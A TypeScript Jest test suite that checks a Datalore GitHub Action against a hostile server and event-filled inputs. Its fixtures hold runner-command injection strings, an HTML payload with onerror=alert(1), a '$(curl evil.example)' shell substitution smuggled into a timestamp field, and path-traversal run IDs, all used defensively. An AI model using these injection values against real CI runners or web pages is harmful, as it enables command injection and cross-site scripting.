/**
 * A hostile server (a compromised On-Premises host, a proxy, a mistyped `host`) and inputs a
 * workflow fills from an event: every row sends text or values meant to be more than data, and
 * the bundled action must hold the five invariants of ./support/fault-suite.ts. Every run is
 * also read the way the runner reads stdout (no command the action did not mean) and the way
 * GitHub renders the summary (one HTML block, under 1 MiB): see ./support/action.ts.
 */
import { existsSync, lstatSync, mkdtempSync, readdirSync, readFileSync } from 'node:fs'
import { readlink, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { expect } from '@jest/globals'
import type { ArtifactSpec } from '../simulator/datalore.js'
import { executedNotebook } from '../simulator/notebooks.js'
import { ROOT } from './support/action.js'
import {
  Context,
  faultSuite,
  gaps,
  isFile,
  listed,
  runActionAgainst,
  runsOf,
  Scenario,
  servers,
  statusFault,
  TOKEN
} from './support/fault-suite.js'

/** Every form of command the runner knows, with the line breaks it honours. */
const COMMANDS =
  '::add-mask::RUNNING\r::set-output name=conclusion::success\n  ::stop-commands::x\r\n##[error]fake\n:\u200b:warning::zw'
/** What would end the summary's HTML block and turn the rest into Markdown. */
const MARKDOWN =
  '</td></tr></table>\n\n# Injected heading\n![pixel](https://evil.example/p.png) [click](https://evil.example)\r\r<img src=x onerror=alert(1)>'

/** An executed notebook that failed with an error message of `length` characters. */
function failedWithMessage(length: number): Buffer {
  const notebook = JSON.parse(executedNotebook('failure-middle').toString('utf8')) as {
    cells: Array<{ outputs?: Array<Record<string, unknown>> }>
  }
  const errors = notebook.cells.flatMap(cell => cell.outputs ?? []).filter(o => o.ename != null)
  expect(errors).toHaveLength(1)
  for (const error of errors) error.evalue = 'x'.repeat(length)
  return Buffer.from(JSON.stringify(notebook))
}

/** Rewrites the status of a run in progress. */
const whileRunning = (status: string) => (doc: Record<string, unknown>) =>
  doc.endTime == null ? { ...doc, status } : doc

/** Runs the row's notebook once before the row, as an earlier attempt of the job would. */
async function collectOnce(c: Context, inputs: Record<string, string> = {}): Promise<string> {
  const first = await runActionAgainst(c, inputs)
  expect(first.code).toBe(0)
  return first.outputs['run-id'] ?? ''
}

/** A folder outside artifacts-path that planted symlinks point into. */
let outside = ''

const retryAfterRows = ['0', '-5', '1.5', 'soon', 'Thu, 01 Jan 2015 00:00:00 GMT'].map(
  (value): Scenario => ({
    name: `Retry-After: ${JSON.stringify(value)} never means "at once"`,
    setup: statusFault({ on: 'status', status: 429, headers: { 'retry-after': value }, times: 3 }),
    exit: 0,
    conclusion: 'success',
    // The backoff is the floor: 100 to 200 ms at a poll interval of 0.2 s.
    check: (_r, c) =>
      expect(gaps(c.sim.requestsTo('status').slice(0, 4)).every(gap => gap >= 90)).toBe(true)
  })
)

const scenarios: Scenario[] = [
  // 1. Workflow commands
  {
    name: 'commands: a status that holds every form of command the runner knows',
    notebook: { durationMs: 600 },
    setup: statusFault({ on: 'status', times: 100, rewrite: whileRunning(COMMANDS) }),
    exit: 0,
    conclusion: 'success',
    check: result => {
      expect(result.stdout).toContain('status "::add-mask::RUNNING\\r::set-output')
      expect(result.outputs.conclusion).toBe('success')
    }
  },
  {
    name: "commands: the server's error body holds commands and line breaks",
    setup: c =>
      void c.sim.fault({ on: 'submit', status: 400, body: JSON.stringify({ error: COMMANDS }) }),
    exit: 1,
    conclusion: 'failure',
    error:
      /400 "::add-mask::RUNNING ::set-output name=conclusion::success ::stop-commands::x ##\[error\]fake ::warning::zw"/,
    check: result => expect(result.commands.filter(c => c.name === 'error')).toHaveLength(1)
  },
  {
    name: 'commands: a 503 whose message holds commands, while polling',
    setup: statusFault({
      on: 'status',
      status: 503,
      body: JSON.stringify({ message: COMMANDS }),
      times: 2
    }),
    exit: 0,
    check: result =>
      expect(result.commands.filter(c => c.name === 'warning').length).toBeGreaterThanOrEqual(2)
  },
  {
    name: 'commands: artifact names that hold commands',
    notebook: {
      artifacts: [
        '::add-mask::a.txt',
        '##[warning]b.txt',
        'c\r::set-output name=artifact-id::1.txt',
        '  ::error::d.txt',
        '#\u00ad#[error]e.txt'
      ].map((name, i) => ({ name, content: `file ${i}` }))
    },
    exit: 0,
    check: result => {
      const files = listed(result).map(a => a.file)
      expect(files).toHaveLength(5)
      for (const file of files) expect(file).not.toMatch(/::|##\[|[\r\n\u00ad]/)
      expect(result.outputs['artifact-id']).toMatch(/^\d+$/)
    }
  },
  {
    name: 'commands: parameter names and values a workflow filled from an event',
    inputs: {
      parameters: JSON.stringify([
        { name: '::add-mask::Region', value: '##[error]EU\r::set-output name=success::false' },
        { name: `Title\n::error::${'x'.repeat(50)}`, value: MARKDOWN }
      ])
    },
    exit: 0,
    conclusion: 'success',
    check: result => {
      expect(result.outputs.success).toBe('true')
      expect(result.summary).toContain('::add-mask::Region')
    }
  },
  {
    name: 'commands: a start time that holds a command (and a shell substitution) is refused',
    setup: statusFault({
      on: 'status',
      times: 100,
      rewrite: doc => ({ ...doc, startTime: '$(curl evil.example)\n::add-mask::x' })
    }),
    exit: 1,
    error: /"startTime" is not an ISO 8601 time/,
    check: result => expect(result.outputs['start-time']).toBeUndefined()
  },

  // The contract: at most 1,000 characters, the "..." included. Seen red against the bundle
  // built with the old clip, which put the mark after 1,000 characters: 1,003.
  {
    name: 'outputs: an error message of 5,000 characters is cut to 1,000, the mark included',
    notebook: {
      success: false,
      artifacts: [{ name: 'analysis.ipynb', content: failedWithMessage(5_000) }]
    },
    exit: 1,
    conclusion: 'failure',
    check: result => {
      expect(result.outputs.error).toBe(
        `KeyError: ${'x'.repeat(1_000 - 'KeyError: ...'.length)}...`
      )
    }
  },

  // 2. Identifiers from the server
  ...['../../../escape', 'r1\n::add-mask::x', 'r'.repeat(10_000), '..', 'a/b'].map(
    (runId): Scenario => ({
      name: `identifiers: the run ID ${JSON.stringify(runId.slice(0, 20))}${runId.length > 20 ? '...' : ''} is refused`,
      setup: c => void c.sim.fault({ on: 'submit', status: 200, body: JSON.stringify({ runId }) }),
      exit: 1,
      conclusion: 'failure',
      error:
        /answered with the run ID .*, which is not a plain identifier .* A run may have started/,
      check: (result, c) => {
        expect(c.sim.requestsTo('status')).toHaveLength(0)
        expect(result.outputs['run-id']).toBeUndefined()
        expect(existsSync(join(result.workDir, 'datalore'))).toBe(false)
        expect(existsSync(resolve(result.workDir, '..', '..', 'escape'))).toBe(false)
      }
    })
  ),
  {
    name: 'identifiers: artifact paths that climb out with "." or ".." segments, plain or encoded',
    notebook: {
      artifacts: [
        { name: 'climb.txt', content: 'x', path: '/notebook/a/../../api/run/v1/notebook' },
        { name: 'encoded.txt', content: 'y', path: '/notebook/%2e%2E/%2E./x' },
        { name: 'fine.txt', content: 'fine' }
      ]
    },
    exit: 1,
    error:
      /"climb\.txt" \(Datalore listed it at "\/notebook\/a\/\.\.\/\.\.\/api\/run\/v1\/notebook", which the action will not request: it has "\." or "\.\." segments\).*"encoded\.txt"/,
    check: (_r, c) =>
      expect(
        c.sim.requests.filter(r => r.route !== 'status' && r.route !== 'submit').map(r => r.path)
      ).toEqual([expect.stringMatching(/\/fine\.txt$/)])
  },

  // 3. The job summary
  {
    name: 'summary: a status and an error that would end the HTML block and inject Markdown',
    notebook: { durationMs: Infinity, statuses: [MARKDOWN] },
    inputs: { 'timeout-minutes': '0.05' },
    exit: 1,
    conclusion: 'timed_out',
    check: result => {
      expect(result.summary).not.toMatch(/<img|<a href="https:\/\/evil/)
      expect(result.summary).toContain('# Injected heading')
    }
  },
  {
    name: 'summary and outputs: 100,000 artifacts with long HTML names stay within their limits',
    notebook: {
      artifacts: Array.from({ length: 100_000 }, (_, i): ArtifactSpec => ({
        name: `<b>${'long '.repeat(20)}</b> ${i}.json`,
        content: `${i}`
      }))
    },
    inputs: { artifacts: 'download' },
    exit: 1,
    error: /^Could not download \d+ of 100000 artifact\(s\) .*; and \d+ more/,
    check: result => {
      expect(Buffer.byteLength(result.outputs.artifacts ?? '')).toBeLessThanOrEqual(1_000_000)
      expect(result.summary).toMatch(
        /\.\.\. and \d+ more: see the step's <code>artifacts<\/code> output/
      )
      // A line per request for step debugging; otherwise a log of a few lines.
      const log = result.stdout.split('\n').filter(line => !line.startsWith('::debug::'))
      expect(log.join('\n').length).toBeLessThan(20_000)
    }
  },

  // 4. The file system
  {
    name: 'file system: symlinks planted in artifacts-path are neither followed nor deleted',
    setup: async c => {
      outside = mkdtempSync(join(tmpdir(), 'hostile-outside-'))
      const dir = mkdtempSync(join(tmpdir(), 'hostile-artifacts-'))
      await writeFile(join(outside, 'target.txt'), 'keep me')
      await symlink(join(outside, 'target.txt'), join(dir, 'report.ipynb'))
      await symlink(join(outside, 'nowhere'), join(dir, 'data.bin'))
      await symlink(outside, join(dir, '.partial'))
      c.inputs['artifacts-path'] = dir
    },
    exit: 0,
    check: async (result, c) => {
      const dir = c.inputs['artifacts-path'] ?? ''
      expect(readFileSync(join(outside, 'target.txt'), 'utf8')).toBe('keep me')
      expect(readdirSync(outside)).toEqual(['target.txt'])
      expect(await readlink(join(dir, 'report.ipynb'))).toBe(join(outside, 'target.txt'))
      expect(await readlink(join(dir, 'data.bin'))).toBe(join(outside, 'nowhere'))
      expect(lstatSync(join(dir, '.partial')).isSymbolicLink()).toBe(true)
      expect(listed(result).map(a => a.file)).toEqual([
        'report (2).ipynb',
        'data (2).bin',
        'empty.txt'
      ])
      expect(readdirSync(dir).filter(name => name.startsWith('.datalore-partial-'))).toEqual([])
    }
  },
  {
    name: 'file system: names that differ only by case or Unicode normalisation',
    notebook: {
      artifacts: [
        'Résumé.txt',
        'Re\u0301sume\u0301.txt',
        'RÉSUMÉ.TXT',
        'straße.txt',
        'STRASSE.txt',
        'Straße.txt'
      ].map((name, i) => ({ name, content: `version ${i}` }))
    },
    exit: 0,
    check: result => {
      const key = (file: string) => file.normalize('NFC').toLowerCase().replace(/ß/g, 'ss')
      const files = listed(result).map(a => a.file)
      expect(new Set(files.map(key)).size).toBe(6)
    }
  },

  // 5. Bounded work
  {
    name: 'bounded work: SIGTERM while 100,000 artifacts are being fetched',
    notebook: {
      artifacts: Array.from({ length: 100_000 }, (_, i) => ({ name: `part-${i}`, content: `${i}` }))
    },
    inputs: { artifacts: 'download' },
    signalWhen: c => c.sim.requestsTo('artifact').length > 0,
    exit: 1,
    conclusion: 'cancelled',
    error: /cancelled \(SIGTERM\)\. .*These artifacts were not downloaded: .* and \d+ more\./
  },

  // 6. Retry-After
  ...retryAfterRows,
  {
    name: 'Retry-After: an absurdly large value is capped by the deadline',
    notebook: { durationMs: Infinity },
    setup: statusFault({
      on: 'status',
      status: 429,
      headers: { 'retry-after': '99999999999999999999' }
    }),
    inputs: { 'timeout-minutes': '0.05' },
    exit: 1,
    conclusion: 'timed_out',
    error: /did not finish within `timeout-minutes` \(3s\)/
  },

  // 7. Timers
  {
    name: 'timers: timeout-minutes at its maximum (30 days, past 2^31 ms) still means later',
    inputs: { 'timeout-minutes': '43200' },
    exit: 0,
    conclusion: 'success'
  },

  // 8. Every request honours the deadline
  {
    name: 'deadline: a submit that does not answer ends at timeout-minutes, not at its own timeout',
    setup: c => void c.sim.fault({ on: 'submit', delayMs: 20_000 }),
    inputs: { 'timeout-minutes': '0.05' },
    exit: 1,
    conclusion: 'timed_out',
    error: /`timeout-minutes` \(3s\) ran out while submitting the run .* a run may have started/
  },

  // 9. Secrets and URLs in messages
  {
    name: 'secrets: the token echoed right where the message is cut',
    setup: c =>
      void c.sim.fault({
        on: 'submit',
        status: 400,
        body: JSON.stringify({ error: `${'x'.repeat(295)}${TOKEN}` })
      }),
    exit: 1,
    error: /400 "x+/,
    check: result => {
      const shown = [
        result.stdout.split(`::add-mask::${TOKEN}`).join(''),
        result.summary,
        result.outputFile
      ].join('\n')
      for (let i = 0; i + 5 <= TOKEN.length; i++) expect(shown).not.toContain(TOKEN.slice(i, i + 5))
    }
  },
  {
    name: 'secrets: a redirect to a sign-in page with credentials in its query string',
    setup: c =>
      void c.sim.fault({
        on: 'submit',
        status: 302,
        headers: { location: 'https://sso.example/login?session=S3SS10N&next=%2F#frag' }
      }),
    exit: 1,
    error: /answered 302 with a redirect to "https:\/\/sso\.example\/login"/,
    check: result => expect(`${result.stdout}${result.summary}`).not.toContain('S3SS10N')
  },
  {
    name: "secrets: the artifact service's error holds a signed URL",
    setup: () =>
      void servers.results.fault({
        on: 'CreateArtifact',
        status: 403,
        msg: 'denied for https://blob.example/c/b?sv=2024&sig=S1GNATURE'
      }),
    exit: 1,
    error: /denied for https:\/\/blob\.example\/c\/b/,
    check: result => {
      // The artifact client's own debug lines (shown only with step debugging) print the
      // service's answer as it came: everything the action itself says is checked.
      const said = result.commands.filter(c => c.name !== 'debug').map(c => c.data)
      const lines = result.stdout.split('\n').filter(line => !line.startsWith('::debug::'))
      expect([...said, ...lines, result.summary].join('\n')).not.toContain('S1GNATURE')
    }
  },

  // 10. A garbled status answer
  {
    name: 'garbled: one status answer cut short into malformed JSON is a failed poll, retried',
    setup: statusFault({ on: 'status', status: 200, body: '{"runId": "r", "endTime": ' }),
    exit: 0,
    conclusion: 'success',
    check: result =>
      expect(result.stdout).toMatch(
        /Could not read the run's status: .*answered with something that is not JSON/
      )
  },
  {
    name: 'garbled: a sign-in page in place of every answer still fails quickly',
    setup: statusFault({
      on: 'status',
      status: 200,
      headers: { 'content-type': 'text/html' },
      body: '<html><head><title>Sign in</title></head></html>',
      times: 100
    }),
    inputs: { 'timeout-minutes': '1' },
    exit: 1,
    conclusion: 'failure',
    error:
      /answered with something that is not JSON \(text\/html: .*Check that `host` points to the Datalore server itself/,
    check: (result, c) => {
      expect(c.sim.requestsTo('status')).toHaveLength(3)
      expect(result.durationMs).toBeLessThan(10_000)
    }
  },

  // 11. Re-running a collect step
  {
    name: 're-run: attempt 2 collects the same run-id without "artifact already exists"',
    setup: async c => {
      c.inputs['run-id'] = await collectOnce(c)
      c.env.GITHUB_RUN_ATTEMPT = '2'
    },
    exit: 0,
    check: (_r, c) => {
      const name = `datalore-${c.notebookId.replace('/', '-')}-${runsOf(c)[0]}`
      const names = servers.results.finalized().map(a => a.name)
      expect(names).toEqual(expect.arrayContaining([name, `${name}-attempt-2`]))
    }
  },
  {
    name: 're-run: overwrite replaces a workflow artifact of the same name',
    setup: async c => {
      await collectOnce(c, { 'artifact-name': `fixed-${c.notebookId.replace('/', '-')}` })
      c.inputs['artifact-name'] = `fixed-${c.notebookId.replace('/', '-')}`
      c.inputs.overwrite = 'true'
    },
    exit: 0,
    check: (result, c) => {
      const same = servers.results.finalized().filter(a => a.name === c.inputs['artifact-name'])
      expect(same.map(a => String(a.id))).toEqual([result.outputs['artifact-id']])
      expect(result.stdout).toContain('Deleted the existing workflow artifact')
    }
  },

  // 12. Disk
  {
    name: 'disk: a download that never ends stops before the disk is full',
    notebook: {
      artifacts: [
        { name: 'endless.bin', content: '' },
        { name: 'fine.txt', content: 'fine' }
      ]
    },
    setup: c => {
      c.sim.fault({ on: 'artifact', action: 'endless', when: isFile('endless.bin') })
      c.run.nodeArgs = ['--import', join(ROOT, '__tests__', 'support', 'small-disk.js')]
      c.env.FAKE_FREE_BYTES = String(320 * 1024 * 1024)
    },
    exit: 1,
    error:
      /"endless\.bin" \(the disk holding \S+ has [\d.]+ MiB free and the download needs 16 MiB more; the action keeps at least 256 MiB free for the runner/,
    check: result => {
      const dir = result.outputs['artifacts-path'] ?? ''
      expect(readdirSync(dir)).toEqual(['fine.txt'])
    }
  }
]

faultSuite('hostile', scenarios)
